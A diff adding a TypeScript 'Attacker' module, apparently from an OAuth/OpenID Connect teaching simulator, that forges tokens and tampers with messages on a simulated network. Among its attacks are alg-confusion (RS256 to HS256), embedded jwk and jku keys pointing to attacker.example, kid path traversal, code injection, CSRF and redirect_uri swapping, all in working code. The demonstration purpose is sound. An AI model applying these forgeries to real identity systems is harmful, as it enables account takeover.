@@ -1,0 +1,238 @@
+/**
+ * The attacker: forges and injects messages with real crypto and real requests, so the
+ * defences that stop them are the real ones.
+ */
+import { exportJWK, exportSPKI, generateKeyPair, importJWK, SignJWT, type JWK } from 'jose';
+import {
+	ATTACKER_USER,
+	decodeJwt,
+	readJwks,
+	redirectLocation,
+	s256,
+	type HttpRequest,
+	type HttpResponse
+} from '../core/index';
+import type { Network } from './network';
+import { forgeJwt, replaceInMessage, requestTokens, responseTokens } from './tokens';
+import type { ForgeRecipe, TokenSnapshot } from './types';
+
+export interface RecipeInfo {
+	title: string;
+	/** The attacker lures the victim's browser into sending it (rather than intercepting it). */
+	lure: boolean;
+	/** What the attacker does, for the note on the diagram's step. */
+	does: string;
+}
+
+export const RECIPES: Record<ForgeRecipe, RecipeInfo> = {
+	'strip-signature': {
+		title: 'strip the signature',
+		lure: false,
+		does: 'changes the id_token’s sub and removes its signature.'
+	},
+	'key-confusion': {
+		title: 'RS256 → HS256 key confusion',
+		lure: false,
+		does: 'signs a forged id_token with HS256, using the issuer’s public key (from its JWKS) as the HMAC secret.'
+	},
+	'embedded-jwk': {
+		title: 'embed its own key (jwk)',
+		lure: false,
+		does: 'signs a forged id_token with its own key and puts that key in the header’s jwk.'
+	},
+	jku: {
+		title: 'point to its own keys (jku)',
+		lure: false,
+		does: 'signs a forged id_token with its own key and sets jku to a JWKS on its server.'
+	},
+	'kid-traversal': {
+		title: 'kid path traversal',
+		lure: false,
+		does: 'signs a forged id_token with kid "../../../../dev/null", hoping for a file-system key lookup.'
+	},
+	'kid-unknown': {
+		title: 'a key nobody published',
+		lure: false,
+		does: 'signs a forged id_token with its own key under a new kid.'
+	},
+	'access-token-as-id-token': {
+		title: 'access token as id_token',
+		lure: false,
+		does: 'puts the access token where the id_token should be (both are signed by the issuer).'
+	},
+	csrf: {
+		title: 'CSRF on the callback',
+		lure: true,
+		does: 'logs in as itself, then makes the victim’s browser load the callback with the attacker’s code and no state.'
+	},
+	'inject-code': {
+		title: 'authorization code injection',
+		lure: true,
+		does: 'slips a code it obtained for its own account into the victim’s callback, keeping the victim’s state.'
+	},
+	'redirect-uri': {
+		title: 'redirect_uri manipulation',
+		lure: true,
+		does: 'sends the victim a login link whose redirect_uri points to the attacker’s site.'
+	}
+};
+
+const ATTACKER_ORIGIN = 'https://attacker.example';
+const attackerKeys = new Map<string, Promise<{ privateKey: CryptoKey; publicJwk: JWK }>>();
+
+/** The attacker's own key pair, of the algorithm the victim expects, so the alg check passes. */
+function key(alg: string) {
+	const usable = ['RS256', 'PS256', 'ES256', 'EdDSA'].includes(alg) ? alg : 'RS256';
+	let pair = attackerKeys.get(usable);
+	if (!pair) {
+		pair = generateKeyPair(usable, usable === 'EdDSA' ? { crv: 'Ed25519' } : {}).then(
+			async ({ privateKey, publicKey }) => ({
+				privateKey,
+				publicJwk: { ...(await exportJWK(publicKey)), kid: 'attacker-key-1', alg: usable }
+			})
+		);
+		attackerKeys.set(usable, pair);
+	}
+	return pair;
+}
+
+/** The forged claims: the same token, but about the attacker. */
+function asAttacker(payload: Record<string, unknown>): Record<string, unknown> {
+	return {
+		...payload,
+		sub: ATTACKER_USER.id,
+		email: ATTACKER_USER.profile.email,
+		name: ATTACKER_USER.profile.name
+	};
+}
+
+export class Attacker {
+	constructor(
+		private readonly network: Network,
+		private readonly issuer: string
+	) {}
+
+	/** Applies a recipe to a message; undefined when the message has nothing it applies to. */
+	async forge<T extends HttpRequest | HttpResponse>(
+		recipe: ForgeRecipe,
+		message: T
+	): Promise<T | undefined> {
+		const tokens: TokenSnapshot[] =
+			'method' in message ? requestTokens(message) : responseTokens(message as HttpResponse);
+		const target =
+			tokens.find((t) => t.name === 'id_token' && t.payload) ?? tokens.find((t) => t.payload);
+		const swap = (forged: string | undefined) =>
+			target && forged
+				? replaceInMessage(message as T & { headers: [string, string][] }, target.value, forged)
+				: undefined;
+
+		switch (recipe) {
+			case 'strip-signature': {
+				const forged =
+					target &&
+					forgeJwt(target.value, (_, payload) => Object.assign(payload, asAttacker(payload)));
+				return swap(forged?.replace(/\.[^.]*$/, '.'));
+			}
+			case 'key-confusion': {
+				if (!target?.payload) return undefined;
+				// The JWKS is public: anyone can fetch it.
+				const jwks = readJwks(
+					await this.network.send('attacker', {
+						method: 'GET',
+						url: `${this.issuer}.well-known/jwks.json`,
+						headers: []
+					})
+				);
+				const kid = target.header?.kid;
+				const published = jwks.keys.find((k) => k.kid === kid) ?? jwks.keys[0];
+				if (!published) return undefined;
+				const pem = await exportSPKI(
+					(await importJWK(published, String(published.alg ?? 'RS256'))) as CryptoKey
+				);
+				const forged = await new SignJWT(asAttacker(target.payload))
+					.setProtectedHeader({ alg: 'HS256', kid: published.kid, typ: 'JWT' })
+					.sign(new TextEncoder().encode(pem));
+				return swap(forged);
+			}
+			case 'embedded-jwk':
+			case 'jku':
+			case 'kid-traversal':
+			case 'kid-unknown': {
+				if (!target?.payload) return undefined;
+				const { privateKey, publicJwk } = await key(String(target.header?.alg));
+				const header: Record<string, unknown> = { alg: publicJwk.alg, typ: 'JWT' };
+				// Only the key material goes in the header, as an attacker's library would put it.
+				const bareKey = Object.fromEntries(
+					Object.entries(publicJwk).filter(([name]) =>
+						['kty', 'crv', 'x', 'y', 'n', 'e'].includes(name)
+					)
+				);
+				if (recipe === 'embedded-jwk') Object.assign(header, { kid: publicJwk.kid, jwk: bareKey });
+				if (recipe === 'jku')
+					Object.assign(header, {
+						kid: publicJwk.kid,
+						jku: `${ATTACKER_ORIGIN}/.well-known/jwks.json`
+					});
+				if (recipe === 'kid-traversal') header.kid = '../../../../dev/null';
+				if (recipe === 'kid-unknown') header.kid = 'rotated-key-2';
+				const forged = await new SignJWT(asAttacker(target.payload))
+					.setProtectedHeader(header as never)
+					.sign(privateKey);
+				return swap(forged);
+			}
+			case 'access-token-as-id-token': {
+				const access = tokens.find((t) => t.name === 'access_token');
+				return access && target ? swap(access.value) : undefined;
+			}
+			case 'csrf':
+			case 'inject-code': {
+				if (!('method' in message) || !new URL(message.url).searchParams.has('code'))
+					return undefined;
+				const url = new URL(message.url);
+				const code = await this.#ownCode(url.origin + url.pathname);
+				if (!code) return undefined;
+				url.searchParams.set('code', code);
+				if (recipe === 'csrf') url.searchParams.delete('state');
+				return { ...message, url: url.href };
+			}
+			case 'redirect-uri': {
+				if (!('method' in message) || !new URL(message.url).searchParams.has('redirect_uri'))
+					return undefined;
+				const url = new URL(message.url);
+				url.searchParams.set('redirect_uri', `${ATTACKER_ORIGIN}/callback`);
+				return { ...message, url: url.href };
+			}
+		}
+	}
+
+	/** The attacker logs in as itself, with its own PKCE, and keeps the code it gets. */
+	async #ownCode(redirectUri: string): Promise<string | undefined> {
+		const url = new URL('authorize', this.issuer);
+		const verifier = 'attacker-verifier-0123456789-0123456789-0123456789';
+		url.search = new URLSearchParams({
+			response_type: 'code',
+			client_id: redirectUri.startsWith('https://spa.example')
+				? 'tokenstep-spa'
+				: 'tokenstep-webapp',
+			redirect_uri: redirectUri,
+			scope: 'openid',
+			state: 'attacker-state',
+			nonce: 'attacker-nonce',
+			login_hint: ATTACKER_USER.id,
+			code_challenge: await s256(verifier),
+			code_challenge_method: 'S256'
+		}).toString();
+		const response = await this.network.send('attacker', {
+			method: 'GET',
+			url: url.href,
+			headers: []
+		});
+		const location = redirectLocation(response);
+		return location ? (new URL(location).searchParams.get('code') ?? undefined) : undefined;
+	}
+}
+
+/** Whether a token's header or payload says it is about the attacker (for tests and notes). */
+export function isAttackersToken(token: string): boolean {
+	return decodeJwt(token).payload?.sub === ATTACKER_USER.id;
+}
